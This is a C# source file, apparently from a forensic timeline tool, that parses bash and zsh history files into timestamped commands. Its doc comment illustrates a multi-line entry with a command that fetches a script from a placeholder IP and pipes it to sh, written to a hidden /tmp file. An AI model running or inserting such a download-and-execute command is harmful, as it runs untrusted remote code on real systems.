using System.Text;
using Timeline.Core.Ingest;

namespace Timeline.Parsers.Linux.BashHistory;

/// <summary>
/// Turns history lines into commands, following how bash itself reads its history file
/// (lib/readline/histfile.c): when the file's first line is a <c>#&lt;epoch&gt;</c> stamp, every
/// stamp opens an entry and all lines up to the next stamp belong to it (a multi-line command):
/// <code>
/// #1709349302
/// cat &gt; /tmp/.x.sh &lt;&lt;'EOF'
/// wget -q -O - http://203.0.113.7/d.sh | sh
/// EOF
/// </code>
/// Otherwise every line is its own command and a stamp dates only the line after it, so a file that
/// was written for years without <c>HISTTIMEFORMAT</c> and then with it ("desynchronised") yields
/// unstamped commands first, stamped ones later, and unstamped ones again after a session without it.
/// zsh extended lines (<c>: 1709349302:0;cmd</c>) carry their own stamp; a trailing backslash
/// continues the command on the next line, as zsh writes multi-line commands.
/// </summary>
public static class HistoryReader
{
    public static IEnumerable<HistoryCommand> Read(IEnumerable<TextLine> lines, ParseContext context)
    {
        bool? stampedEntries = null;      // decided by the first non-empty line
        long? stamp = null;               // a '#<epoch>' waiting for its command
        long stampLine = 0;
        long start = 0;                   // first line of the command being built (0 = none)
        long? ticks = null;
        string? elapsed = null;
        var text = new StringBuilder();
        var zshContinues = false;

        foreach (var line in lines)
        {
            var isStamp = HistoryStamp.TryReadBash(line.Text, out var lineTicks);
            if (stampedEntries is null)
            {
                if (line.Text.Length == 0) continue;
                stampedEntries = isStamp;
            }

            if (stampedEntries == true)
            {
                if (isStamp)
                {
                    if (Complete() is { } done) yield return done;
                    else if (stamp is not null) WarnLonelyStamp(context, stampLine, stamp.Value);
                    stamp = lineTicks;
                    stampLine = line.Number;
                    continue;
                }
                if (start == 0)
                {
                    if (line.Text.Length == 0) continue;
                    start = line.Number;
                    ticks = stamp;
                    stamp = null;
                }
                else text.Append('\n');
                text.Append(line.Text);
                continue;
            }

            // One command per line.
            if (zshContinues)
            {
                text.Length--; // the backslash that joined the lines
                text.Append('\n').Append(line.Text);
                zshContinues = line.Text.EndsWith('\\');
                continue;
            }
            if (isStamp)
            {
                if (Complete() is { } done) yield return done;
                if (stamp is not null) WarnLonelyStamp(context, stampLine, stamp.Value);
                stamp = lineTicks;
                stampLine = line.Number;
                continue;
            }
            if (line.Text.Length == 0) continue;
            if (Complete() is { } previous) yield return previous;
            start = line.Number;
            if (HistoryStamp.TryReadZsh(line.Text, out var zshTicks, out var zshElapsed, out var zshCommand))
            {
                if (stamp is not null) WarnLonelyStamp(context, stampLine, stamp.Value);
                ticks = zshTicks;
                elapsed = zshElapsed;
                text.Append(zshCommand);
                zshContinues = zshCommand.EndsWith('\\');
            }
            else
            {
                ticks = stamp;
                text.Append(line.Text);
            }
            stamp = null;
        }

        if (Complete() is { } last) yield return last;
        if (stamp is not null) WarnLonelyStamp(context, stampLine, stamp.Value);

        HistoryCommand? Complete()
        {
            if (start == 0) return null;
            // Trailing blank lines belong to no command (bash drops them when it reads the file).
            var length = text.Length;
            while (length > 0 && text[length - 1] == '\n') length--;
            var command = new HistoryCommand(start, text.ToString(0, length), ticks, elapsed);
            start = 0;
            ticks = null;
            elapsed = null;
            zshContinues = false;
            text.Clear();
            return command;
        }
    }

    private static void WarnLonelyStamp(ParseContext context, long line, long ticks) =>
        context.Warn(line, $"history timestamp {Core.Output.TimeText.Format(ticks)} is not followed by a command (an empty entry or a cut file)",
            "#" + ((ticks - DateTime.UnixEpoch.Ticks) / TimeSpan.TicksPerSecond).ToString(System.Globalization.CultureInfo.InvariantCulture));
}
